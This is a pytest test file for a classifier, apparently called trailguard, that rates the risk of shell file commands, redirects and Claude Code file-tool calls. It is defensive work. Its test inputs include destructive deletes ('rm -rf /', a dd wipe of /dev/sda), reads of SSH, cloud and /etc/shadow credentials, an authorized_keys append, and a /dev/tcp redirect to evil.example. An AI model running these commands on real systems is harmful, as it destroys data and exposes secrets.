"""The file classifier: shell file commands, output redirects and Claude Code's file tools."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trailguard.classify import files
from trailguard.classify.model import ClassifyContext, Redirect, SimpleCommand
from trailguard.events import Operation

ROOT = "/work/proj"
CTX = ClassifyContext(cwd=ROOT, home="/home/dev", project_root=ROOT)
SUBDIR = ClassifyContext(cwd=f"{ROOT}/src", home="/home/dev", project_root=ROOT)


def command(line: str, **kwargs: Any) -> SimpleCommand:
    return SimpleCommand(argv=tuple(shlex.split(line)), text=line, **kwargs)


def check(op: Operation, expected: dict[str, Any]) -> None:
    for key in ("action", "access", "risk", "resource"):
        if key in expected:
            assert getattr(op, key) == expected[key], f"{key}: {getattr(op, key)!r} ({op})"
    for flag in expected.get("flags", ()):
        assert flag in op.flags, f"missing flag {flag!r} in {op.flags}"
    for flag in expected.get("no_flags", ()):
        assert flag not in op.flags, f"unexpected flag {flag!r} in {op.flags}"
    for name, value in expected.get("attributes", {}).items():
        assert op.attributes.get(name) == value, f"attribute {name}: {op.attributes}"


# (command line, context, expectations for operation "index" (default 0); "count" = how many)
CASES: list[tuple[str, ClassifyContext, dict[str, Any]]] = [
    # --- rm, and the catastrophic ones
    (
        "rm notes.txt",
        CTX,
        {
            "action": "file:Delete",
            "access": "delete",
            "risk": "medium",
            "resource": f"{ROOT}/notes.txt",
            "no_flags": ["recursive", "catastrophic-delete"],
        },
    ),
    (
        "rm -rf build",
        CTX,
        {
            "risk": "medium",
            "flags": ["recursive", "force"],
            "resource": f"{ROOT}/build",
            "no_flags": ["catastrophic-delete"],
        },
    ),
    ("rm -r -f ../proj/dist", CTX, {"resource": f"{ROOT}/dist", "flags": ["recursive"]}),
    ("rm a b c", CTX, {"count": 3, "index": 2, "resource": f"{ROOT}/c"}),
    ("rm -- -weird-name", CTX, {"resource": f"{ROOT}/-weird-name"}),
    ("rm -rf /", CTX, {"risk": "critical", "flags": ["catastrophic-delete"], "resource": "/"}),
    ("rm -rf /*", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    (
        "rm -fr ~",
        CTX,
        {"risk": "critical", "flags": ["catastrophic-delete"], "resource": "/home/dev"},
    ),
    ("rm -rf ~/", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    ("rm -rf $HOME", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    ("rm -rf ${HOME}/*", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    (
        "rm -rf $HOME",
        ClassifyContext(),
        {"risk": "critical", "flags": ["catastrophic-delete", "dynamic-path"], "resource": "$HOME"},
    ),
    ("rm -rf .", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    ("rm -rf .", SUBDIR, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    ("rm -rf /work/proj", SUBDIR, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    ("rm -rf /work/proj/", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    ("rm -rf ..", SUBDIR, {"risk": "critical", "flags": ["catastrophic-delete"], "resource": ROOT}),
    ("rm -rf /work", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    ("rm -rf *", CTX, {"risk": "critical", "flags": ["catastrophic-delete", "glob"]}),
    ("rm -rf ./*", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    ("rm -rf *", SUBDIR, {"risk": "medium", "no_flags": ["catastrophic-delete"]}),
    ("rm -rf /usr", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    ("rm -rf /home/other", CTX, {"risk": "critical", "flags": ["catastrophic-delete"]}),
    (
        "rm -rf --no-preserve-root /",
        CTX,
        {"risk": "critical", "flags": ["catastrophic-delete", "no-preserve-root"]},
    ),
    ("rm * ", CTX, {"risk": "medium", "no_flags": ["catastrophic-delete"]}),
    (
        'rm -rf "$BUILD_DIR/"',
        CTX,
        {
            "risk": "high",
            "flags": ["dynamic-path"],
            "resource": "$BUILD_DIR/",
            "no_flags": ["catastrophic-delete"],
        },
    ),
    ("rm -rf /tmp/cache", CTX, {"risk": "medium", "no_flags": ["outside-project"]}),
    (
        "rm -rf ~/other-project",
        CTX,
        {"risk": "high", "flags": ["outside-project"], "no_flags": ["catastrophic-delete"]},
    ),
    ("rm /etc/hosts", CTX, {"risk": "high", "flags": ["system-path"]}),
    # --- sensitive paths
    (
        "rm .env",
        CTX,
        {"risk": "high", "flags": ["sensitive"], "attributes": {"sensitive": "dotenv"}},
    ),
    ("rm .env.production", CTX, {"risk": "high", "attributes": {"sensitive": "dotenv"}}),
    ("rm .env.example", CTX, {"risk": "medium", "no_flags": ["sensitive"]}),
    ("rm ~/.ssh/id_ed25519", CTX, {"risk": "high", "attributes": {"sensitive": "ssh-key"}}),
    ("rm -rf ~/.ssh", CTX, {"risk": "high", "attributes": {"sensitive": "ssh-key"}}),
    (
        "cp ~/.aws/credentials /tmp/c",
        CTX,
        {
            "action": "file:Read",
            "access": "read",
            "risk": "high",
            "attributes": {"sensitive": "cloud-credentials"},
            "count": 2,
        },
    ),
    (
        "cp ~/.aws/credentials /tmp/c",
        CTX,
        {
            "index": 1,
            "action": "file:Write",
            "resource": "/tmp/c",
            "attributes": {"source": "/home/dev/.aws/credentials"},
        },
    ),
    (
        "mv server.key /tmp/",
        CTX,
        {
            "action": "file:Move",
            "risk": "high",
            "attributes": {"sensitive": "private-key", "destination": "/tmp"},
        },
    ),
    ("touch cert.pem", CTX, {"risk": "high", "attributes": {"sensitive": "private-key"}}),
    ("tee ~/.kube/config", CTX, {"risk": "high", "attributes": {"sensitive": "kubeconfig"}}),
    ("tee ~/.docker/config.json", CTX, {"attributes": {"sensitive": "docker-config"}}),
    ("rm ~/.config/gcloud/credentials.db", CTX, {"attributes": {"sensitive": "cloud-credentials"}}),
    ("rm -rf ~/.azure", CTX, {"attributes": {"sensitive": "cloud-credentials"}}),
    ("rm .npmrc", CTX, {"risk": "high", "attributes": {"sensitive": "registry-credentials"}}),
    ("rm ~/.pypirc", CTX, {"attributes": {"sensitive": "registry-credentials"}}),
    ("rm ~/.netrc", CTX, {"attributes": {"sensitive": "netrc"}}),
    ("rm -rf ~/.gnupg", CTX, {"attributes": {"sensitive": "gpg-key"}}),
    ("tee /etc/sudoers.d/agent", CTX, {"risk": "high", "attributes": {"sensitive": "system-auth"}}),
    (
        "dd if=/etc/shadow of=/tmp/s",
        CTX,
        {
            "index": 0,
            "action": "file:Read",
            "risk": "high",
            "attributes": {"sensitive": "system-auth"},
        },
    ),
    (
        "ln -s ~/.ssh/id_rsa key",
        CTX,
        {
            "action": "file:Write",
            "risk": "high",
            "flags": ["symlink", "sensitive"],
            "resource": f"{ROOT}/key",
        },
    ),
    # --- chmod, chown
    (
        "chmod +x run.sh",
        CTX,
        {"action": "file:Chmod", "access": "admin", "risk": "low", "attributes": {"mode": "+x"}},
    ),
    ("chmod 777 run.sh", CTX, {"risk": "medium", "flags": ["world-writable"]}),
    ("chmod -R 755 scripts", CTX, {"risk": "medium", "flags": ["recursive"]}),
    ("chmod -R 777 .", CTX, {"risk": "high", "flags": ["recursive", "world-writable"]}),
    ("chmod o+w shared", CTX, {"flags": ["world-writable"]}),
    ("chmod u+s helper", CTX, {"risk": "high", "flags": ["setuid"]}),
    (
        "chmod -x run.sh",
        CTX,
        {"risk": "low", "attributes": {"mode": "-x"}, "resource": f"{ROOT}/run.sh"},
    ),
    ("chmod 600 ~/.ssh/id_rsa", CTX, {"risk": "high", "flags": ["sensitive"]}),
    (
        "chown -R www-data:www-data /var/www",
        CTX,
        {
            "action": "file:Chown",
            "risk": "high",
            "flags": ["recursive", "system-path"],
            "attributes": {"owner": "www-data:www-data"},
        },
    ),
    # --- other writers
    (
        "mv a.txt b.txt",
        CTX,
        {
            "action": "file:Move",
            "access": "write",
            "risk": "low",
            "attributes": {"destination": f"{ROOT}/b.txt"},
        },
    ),
    ("mv -t dest a b", CTX, {"count": 2, "attributes": {"destination": f"{ROOT}/dest"}}),
    (
        "cp -r src /opt/app",
        CTX,
        {"index": 1, "resource": "/opt/app", "risk": "high", "flags": ["system-path", "recursive"]},
    ),
    ("tee -a log.txt", CTX, {"action": "file:Write", "flags": ["append"]}),
    ("tee /dev/null", CTX, {"count": 0}),
    ("touch new.py", CTX, {"action": "file:Write", "access": "write", "risk": "low"}),
    ("mkdir -p a/b/c", CTX, {"resource": f"{ROOT}/a/b/c", "flags": ["parents"]}),
    ("mkdir -m 700 private", CTX, {"resource": f"{ROOT}/private"}),
    (
        "truncate -s 0 app.log",
        CTX,
        {
            "action": "file:Write",
            "risk": "medium",
            "flags": ["empties-file"],
            "attributes": {"size": "0"},
        },
    ),
    ("shred -u secret.txt", CTX, {"action": "file:Delete", "risk": "high", "flags": ["shred"]}),
    ("unlink old.sock", CTX, {"action": "file:Delete", "risk": "medium"}),
    ("rmdir empty", CTX, {"action": "file:Delete", "risk": "low"}),
    (
        "dd if=/dev/zero of=/dev/sda bs=1M",
        CTX,
        {"action": "file:Write", "risk": "critical", "flags": ["device-write"]},
    ),
    ("dd if=image.iso of=out.img", CTX, {"count": 2, "index": 1, "resource": f"{ROOT}/out.img"}),
    (
        "install -m 755 tool /usr/local/bin/tool",
        CTX,
        {
            "action": "file:Write",
            "resource": "/usr/local/bin/tool",
            "risk": "high",
            "attributes": {"mode": "755"},
        },
    ),
    (
        "sed -i 's/a/b/' src/x.py src/y.py",
        CTX,
        {
            "count": 2,
            "index": 1,
            "action": "file:Write",
            "resource": f"{ROOT}/src/y.py",
            "attributes": {"edit": "sed -i"},
        },
    ),
    ("sed -i.bak -e 's/a/b/' conf.ini", CTX, {"count": 1, "resource": f"{ROOT}/conf.ini"}),
    ("sed -i '' 's/a/b/' mac.txt", CTX, {"count": 1, "resource": f"{ROOT}/mac.txt"}),
    ("sed -n 's/a/b/p' x.txt", CTX, {"count": 0}),
    ("sed -i 's/KEY=.*/KEY=x/' .env", CTX, {"risk": "high", "flags": ["sensitive"]}),
    ("touch ~/.bashrc", CTX, {"risk": "high", "flags": ["shell-startup"]}),
    ("tee .git/hooks/pre-commit", CTX, {"risk": "high", "flags": ["git-hook"]}),
    ("tee .claude/settings.json", CTX, {"risk": "high", "flags": ["agent-config"]}),
    ("touch ~/notes.txt", CTX, {"risk": "medium", "flags": ["outside-project"]}),
    ("touch rel.txt", ClassifyContext(), {"resource": "rel.txt", "flags": ["relative-path"]}),
    ("touch $OUT/x", CTX, {"resource": "$OUT/x", "flags": ["dynamic-path"]}),
]


@pytest.mark.parametrize(
    ("line", "context", "expected"), CASES, ids=[f"{i}:{case[0]}" for i, case in enumerate(CASES)]
)
def test_file_command(line: str, context: ClassifyContext, expected: dict[str, Any]) -> None:
    operations = files.classify(command(line), context)
    if "count" in expected:
        assert len(operations) == expected["count"], operations
        if expected["count"] == 0:
            return
    else:
        assert operations
    op = operations[expected.get("index", 0)]
    assert op.kind == "file"
    assert op.raw == line
    check(op, expected)


def test_sudo_is_flagged() -> None:
    [op] = files.classify(command("tee /etc/hosts", via=("sudo",)), CTX)
    assert "sudo" in op.flags
    assert op.risk == "high"


def test_a_classifier_bug_still_yields_an_operation() -> None:
    [op] = files.classify_tool("Read", None, CTX)  # type: ignore[arg-type]
    assert op.flags == ["classifier-error"]
    assert op.access == "write"


def test_other_programs_are_ignored() -> None:
    assert files.classify(command("ls -la"), CTX) == []


def test_programs() -> None:
    assert {"rm", "mv", "cp", "sed", "chmod", "dd", "tee"} <= files.PROGRAMS
    assert "cat" not in files.PROGRAMS


REDIRECTS: list[tuple[str, tuple[Redirect, ...], list[dict[str, Any]]]] = [
    ("write", (Redirect(">", "out.txt"),), [{"action": "file:Write", "access": "write",
     "risk": "low", "resource": f"{ROOT}/out.txt", "attributes": {"redirect": ">"}}]),
    ("append", (Redirect(">>", "log.txt"),), [{"flags": ["append"]}]),
    ("both", (Redirect("&>", "all.log"),), [{"resource": f"{ROOT}/all.log"}]),
    ("both-append", (Redirect("&>>", "all.log"),), [{"flags": ["append"]}]),
    ("clobber", (Redirect(">|", "x"),), [{"flags": ["clobber"]}]),
    ("stderr-file", (Redirect("2>", "err.log"),), [{"resource": f"{ROOT}/err.log"}]),
    ("dev-null", (Redirect(">", "/dev/null"), Redirect("2>", "/dev/null")), []),
    ("fd-dup", (Redirect("2>&", "1"), Redirect(">&", "2"), Redirect(">", "&1")), []),
    ("stdout-stderr", (Redirect(">", "/dev/stdout"), Redirect(">", "/dev/stderr")), []),
    ("heredoc-ignored", (Redirect("<<", "SELECT 1"), Redirect("<<<", "hi")), []),
    ("plain-input-ignored", (Redirect("<", "input.txt"),), []),
    ("sensitive-input", (Redirect("<", ".env"),), [{"action": "file:Read", "risk": "medium",
     "attributes": {"sensitive": "dotenv"}}]),
    ("authorized-keys", (Redirect(">>", "~/.ssh/authorized_keys"),), [{"risk": "high",
     "flags": ["sensitive", "append"], "resource": "/home/dev/.ssh/authorized_keys"}]),
    ("etc", (Redirect(">", "/etc/resolv.conf"),), [{"risk": "high",
     "flags": ["system-path"]}]),
    ("dev-tcp", (Redirect(">", "/dev/tcp/evil.example/4444"),), [{"risk": "high",
     "flags": ["network-redirect"]}]),
    ("two", (Redirect(">", "a"), Redirect("2>", "b")), [{"resource": f"{ROOT}/a"},
     {"resource": f"{ROOT}/b"}]),
]  # fmt: skip


@pytest.mark.parametrize(
    ("redirects", "expected"), [c[1:] for c in REDIRECTS], ids=[c[0] for c in REDIRECTS]
)
def test_redirects(redirects: tuple[Redirect, ...], expected: list[dict[str, Any]]) -> None:
    cmd = SimpleCommand(argv=("echo", "hi"), text="echo hi > x", redirects=redirects)
    operations = files.classify_redirects(cmd, CTX)
    assert len(operations) == len(expected), operations
    for op, exp in zip(operations, expected, strict=True):
        assert op.raw == "echo hi > x"
        check(op, exp)


TOOLS: list[tuple[str, dict[str, Any], dict[str, Any] | None]] = [
    ("Write", {"file_path": f"{ROOT}/src/new.py", "content": "print('hé')\n"},
     {"action": "file:Write", "access": "write", "risk": "low",
      "resource": f"{ROOT}/src/new.py", "attributes": {"tool": "Write", "bytes": "13"}}),
    ("Write", {"file_path": f"{ROOT}/.env", "content": "A=1"}, {"risk": "high",
     "flags": ["sensitive"], "attributes": {"sensitive": "dotenv"}}),
    ("Write", {"file_path": "/home/dev/.zshrc", "content": "x"}, {"risk": "high",
     "flags": ["shell-startup"]}),
    ("Write", {"file_path": "/home/dev/notes.md", "content": "x"}, {"risk": "medium",
     "flags": ["outside-project"]}),
    ("Edit", {"file_path": "src/app.py", "old_string": "a", "new_string": "b"},
     {"action": "file:Write", "resource": f"{ROOT}/src/app.py",
      "attributes": {"edit": "replace", "tool": "Edit"}}),
    ("Edit", {"file_path": "a.py", "old_string": "a", "new_string": "b", "replace_all": True},
     {"attributes": {"edit": "replace_all"}}),
    ("MultiEdit", {"file_path": f"{ROOT}/a.py", "edits": [{}, {}, {}]},
     {"action": "file:Write", "attributes": {"edit": "multi", "edits": "3"}}),
    ("Edit", {"file_path": f"{ROOT}/.claude/settings.local.json", "old_string": "a",
              "new_string": "b"}, {"risk": "high", "flags": ["agent-config"]}),
    ("NotebookEdit", {"notebook_path": f"{ROOT}/nb.ipynb", "new_source": "x",
                      "edit_mode": "insert"},
     {"action": "file:Write", "attributes": {"edit": "insert"}}),
    ("Read", {"file_path": f"{ROOT}/README.md"}, {"action": "file:Read", "access": "read",
     "risk": "low"}),
    ("Read", {"file_path": "~/.ssh/id_rsa"}, {"risk": "high", "resource": "/home/dev/.ssh/id_rsa",
     "attributes": {"sensitive": "ssh-key"}}),
    ("Read", {"file_path": f"{ROOT}/.env.local"}, {"risk": "medium",
     "attributes": {"sensitive": "dotenv"}}),
    ("Read", {"file_path": "/home/dev/.aws/credentials"}, {"risk": "high",
     "attributes": {"sensitive": "cloud-credentials"}}),
    ("Glob", {"pattern": "**/*.py"}, {"action": "file:List", "access": "read", "risk": "low",
     "resource": f"{ROOT}/**/*.py", "attributes": {"pattern": "**/*.py"}}),
    ("Glob", {"pattern": "*.pem", "path": "/home/dev/certs"}, {"risk": "low",
     "resource": "/home/dev/certs/*.pem", "flags": ["sensitive"]}),
    ("Grep", {"pattern": "TODO", "path": "src"}, {"action": "file:Search", "access": "read",
     "risk": "low", "resource": f"{ROOT}/src", "attributes": {"pattern": "TODO"}}),
    ("Grep", {"pattern": "password"}, {"resource": ROOT}),
    ("Grep", {"pattern": "AWS", "path": "/home/dev/.aws/credentials"}, {"risk": "high",
     "flags": ["sensitive"]}),
    ("Grep", {"pattern": "KEY", "glob": ".env*"}, {"risk": "medium",
     "attributes": {"sensitive": "dotenv", "glob": ".env*"}}),
    ("Write", {"content": "no path"}, None),
    ("Bash", {"command": "ls"}, None),
    ("TodoWrite", {"todos": []}, None),
]  # fmt: skip


@pytest.mark.parametrize(
    ("tool", "tool_input", "expected"),
    TOOLS,
    ids=[f"{i}:{case[0]}" for i, case in enumerate(TOOLS)],
)
def test_claude_code_tools(
    tool: str, tool_input: dict[str, Any], expected: dict[str, Any] | None
) -> None:
    operations = files.classify_tool(tool, tool_input, CTX)
    if expected is None:
        assert operations == []
        return
    [op] = operations
    assert op.kind == "file"
    check(op, expected)


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/work/proj/.env", "dotenv"),
        ("/work/proj/config/.env.staging", "dotenv"),
        ("/work/proj/.env.sample", None),
        ("/work/proj/.environment.ts", None),
        ("/home/dev/.ssh/config", "ssh-key"),
        ("/work/proj/deploy/id_rsa.pub", None),  # a public key is not a secret
        ("/root/.aws/config", "cloud-credentials"),
        ("/work/proj/tls/server.key", "private-key"),
        ("/work/proj/src/keyboard.py", None),
        ("/etc/shadow", "system-auth"),
        ("/etc/passwd", None),
        ("~/.git-credentials", "git-credentials"),
        ("$HOME/.kube/config", "kubeconfig"),
    ],
)
def test_sensitive_class(path: str, kind: str | None) -> None:
    assert files.sensitive_class(path, CTX) == kind


@pytest.mark.parametrize(
    ("path", "resolved", "flags"),
    [
        ("a/../b.txt", f"{ROOT}/b.txt", []),
        ("~", "/home/dev", []),
        ("~/x", "/home/dev/x", []),
        ("${HOME}/x", "/home/dev/x", []),
        ("~bob/x", "~bob/x", ["dynamic-path"]),
        ("$(pwd)/x", "$(pwd)/x", ["dynamic-path"]),
        ("*.log", f"{ROOT}/*.log", ["glob"]),
        ("//etc//hosts", "/etc/hosts", []),
    ],
)
def test_resolve_path(path: str, resolved: str, flags: list[str]) -> None:
    assert files.resolve_path(path, CTX) == (resolved, flags)


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(sorted(files.PROGRAMS)),
    st.lists(st.sampled_from([
        "-rf", "-R", "-i", "-i.bak", "''", "-t", "-m", "777", "u+s", "-x", "--", "/", "~", ".",
        "*", "$HOME", "of=/dev/sda", "if=x", "-s", "0", "a", ".env", "--no-preserve-root", "",
        "-e", "s/a/b/", "--reference=x", "-",
    ]), max_size=6),
)  # fmt: skip
def test_never_raises(program: str, words: list[str]) -> None:
    cmd = SimpleCommand(argv=(program, *words), text=program)
    operations = files.classify(cmd, CTX) + files.classify(cmd, ClassifyContext())
    assert all(isinstance(op, Operation) for op in operations)
    assert all("classifier-error" not in op.flags for op in operations)


@pytest.mark.parametrize(
    ("line", "risk", "flags"),
    [
        ("find / -delete", "critical", ["recursive", "catastrophic-delete"]),
        ("find /home/dev -delete", "critical", ["recursive", "catastrophic-delete"]),
        ("find . -name '*.pyc' -delete", "high", ["recursive"]),
        ("find build -delete", "high", ["recursive"]),
    ],
)
def test_find_delete_is_a_recursive_delete_from_the_files_classifier(
    line: str, risk: str, flags: list[str]
) -> None:
    [op] = files.classify(command(line), CTX)
    assert (op.action, op.access, op.risk, op.flags) == ("file:Delete", "delete", risk, flags)


def test_find_without_delete_has_no_operation_of_its_own() -> None:
    assert files.classify(command("find . -name '*.py'"), CTX) == []
